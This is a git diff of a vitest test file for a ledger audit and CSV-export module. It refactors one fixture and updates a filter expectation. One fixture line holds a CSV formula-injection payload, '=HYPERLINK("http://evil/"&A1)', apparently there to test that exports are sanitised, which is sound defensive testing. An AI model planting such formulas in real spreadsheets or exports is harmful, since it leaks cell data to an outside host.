@@ -1,7 +1,7 @@
 import { expect, test } from 'vitest'
 import { auditCsv, auditedLines, auditRow, csvCell } from '../../src/ledger/audit.ts'
 import { beforeFirst, type Line, makeLine } from '../../src/ledger/line.ts'
-import { fact, OUR_KEY, quarantine } from '../adapters/ledger/ledger-world.ts'
+import { dispatched, fact, OUR_KEY, quarantine } from '../adapters/ledger/ledger-world.ts'
 
 function ledger(): readonly Line[] {
   const facts = [
@@ -11,7 +11,7 @@ function ledger(): readonly Line[] {
       fact: { ...quarantine('1.1.0'), reason: '=HYPERLINK("http://evil/"&A1)' } as never,
       at: '2026-11-23T00:00:00Z',
     }),
-    fact(4, { scope: 'budget', fact: { kind: 'dispatched', gpu_seconds: 60 } }),
+    fact(4, { scope: 'budget', fact: dispatched(4, { gpu_seconds: 60 }) }),
   ]
   const lines: Line[] = []
   for (const one of facts) lines.push(makeLine(one, lines.at(-1) ?? { seq: 0, digest: beforeFirst(42) }, OUR_KEY))
@@ -22,7 +22,7 @@ test('a question gets the lines that it asks for', () => {
   const seqs = (asked: Parameters<typeof auditedLines>[1]) => auditedLines(ledger(), asked).map(({ seq }) => seq)
 
   expect(seqs({})).toEqual([1, 2, 3, 4])
-  expect(seqs({ model: 'churn' })).toEqual([1, 3])
+  expect(seqs({ model: 'churn' })).toEqual([1, 3, 4])
   expect(seqs({ environment: 'staging' })).toEqual([2])
   expect(seqs({ kind: 'dispatched' })).toEqual([4])
   expect(seqs({ since: '2026-11-22T00:00:00Z' })).toEqual([2, 3])
